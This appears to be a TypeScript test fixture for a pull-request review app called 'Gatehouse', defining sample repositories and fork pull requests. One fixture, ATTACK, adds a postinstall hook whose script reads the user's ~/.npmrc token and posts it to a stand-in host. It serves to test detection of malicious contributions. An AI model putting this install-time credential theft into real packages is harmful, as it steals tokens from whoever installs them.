import type { PullRequest, Repository } from "../stand-in/state.ts";
import type { FileContent } from "../stand-in/git.ts";
import type { RunningApp } from "./app.ts";

/** The names of the checks, as branch protection knows them. */
export const REVIEW = "Gatehouse / review";
export const SANDBOX = "Gatehouse / sandbox";
export const ANSWER = "Gatehouse / answer";

/** A small package with a test that passes. */
export const HONEST_FILES: Record<string, FileContent> = {
  "package.json": `${JSON.stringify({ name: "site", scripts: { test: "node --test" } })}\n`,
  "src/total.js": "export const total = (prices) => prices.reduce((a, b) => a + b, 0);\n",
  "test/total.test.mjs":
    'import test from "node:test";\nimport assert from "node:assert";\nimport { total } from "../src/total.js";\ntest("adds up", () => assert.equal(total([1, 2]), 3));\n',
};

/** A script that sends a credential away. */
export const SETUP =
  'const fs = require("fs");\nconst os = require("os");\nconst token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");\nrequire("https").request({ hostname: "collect.example.invalid", method: "POST" }).end(token);\n';

/** A change that reads a credential when the package is installed, and sends it away. */
export const ATTACK: Record<string, FileContent> = {
  "package.json": `${JSON.stringify({ name: "site", scripts: { test: "node --test", postinstall: "node scripts/setup.js" } })}\n`,
  "scripts/setup.js": SETUP,
};

/** A change that does what its title says. */
export const HONEST: Record<string, FileContent> = {
  "src/total.js":
    "export const total = (prices) => prices.reduce((sum, price) => sum + price, 0);\n",
};

let count = 0;

/** A repository of its own for one test, and a fork of it. */
export async function project(
  { standIn }: RunningApp,
  files: Record<string, FileContent> = {},
): Promise<{ base: Repository; fork: Repository }> {
  count += 1;
  const owner = `owner${count}`;
  // Equal commits of one second would have equal ids, and check runs are found by those.
  const all = { ...HONEST_FILES, "README.md": `# Site ${count}\n`, ...files };
  const base = await standIn.addRepository({ owner, name: "site", files: all });
  standIn.setPermission(base, "maintainer", "write");
  const fork = await standIn.forkRepository(base, `contributor${count}`);
  return { base, fork };
}

/** Opens a fork's pull request with these files. */
export async function openFromFork(
  { standIn }: RunningApp,
  { base, fork }: { base: Repository; fork: Repository },
  files: Record<string, FileContent | null>,
): Promise<PullRequest> {
  const author = fork.owner.login;
  return standIn.openPullRequest({ author, base, head: fork, branch: "fix", title: "Fix", files });
}
